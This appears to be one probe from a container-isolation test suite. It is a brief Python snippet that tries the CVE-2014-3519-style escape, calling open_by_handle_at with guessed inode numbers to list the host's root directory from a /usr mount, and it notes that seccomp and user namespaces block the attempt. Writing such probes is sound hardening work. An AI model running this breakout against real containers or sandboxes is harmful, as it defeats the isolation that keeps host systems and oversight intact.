# tries: opens the root of the host's file system by its inode number, from a mount that shows a part of it
# stopped by: seccomp, user_namespace
# like: CVE-2014-3519

class Handle(_ctypes.Structure):
    _fields_ = [("bytes", _ctypes.c_uint), ("kind", _ctypes.c_int), ("handle", _ctypes.c_ubyte * 8)]

mount = os.open("/usr", os.O_RDONLY)
for inode in (2, 128, 256, 1):
    handle = Handle(8, 1, (_ctypes.c_ubyte * 8)(*inode.to_bytes(4, sys.byteorder), 0, 0, 0, 0))
    try:
        root = syscall("open_by_handle_at", _ctypes.c_int(mount), _ctypes.byref(handle), 0)
        got("a folder of the host", os.listdir(root))
    except OSError:
        pass
